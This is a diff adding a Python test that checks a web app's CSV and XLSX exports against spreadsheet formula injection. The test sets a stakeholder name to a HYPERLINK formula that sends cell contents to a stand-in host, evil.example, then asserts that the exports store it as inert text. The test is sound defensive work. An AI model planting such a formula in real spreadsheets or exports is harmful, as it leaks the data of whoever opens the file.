@@ -218,3 +218,22 @@ def test_the_report_command_writes_a_pdf(runner, programme, tmp_path):
         args=["report", "--period", "2026-08", "--audience", "funder", "--out", str(out)]
     )
     assert bad.exit_code != 0 and "quarter" in bad.output
+
+
+def test_exports_hold_no_live_formula(client, auth, session, programme):
+    """A registry name (or a survivor's suggestion, once approved) that a spreadsheet would run
+    (OWASP CSV injection) is written as text in CSV and in XLSX."""
+    from sqlalchemy import update
+
+    from models import Stakeholder
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    session.execute(update(Stakeholder).values(name=evil))
+    session.commit()
+    sign_in(client, auth, Role.STAFF)
+    table = rows(client.get(f"/mis/export/league-table.csv?period={PERIOD}"))
+    assert table and {r["stakeholder"] for r in table} == {"'" + evil}
+    book = client.get(f"/mis/export/league-table.xlsx?period={PERIOD}").get_data()
+    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert cells and {c.data_type for c in cells} == {"s"}
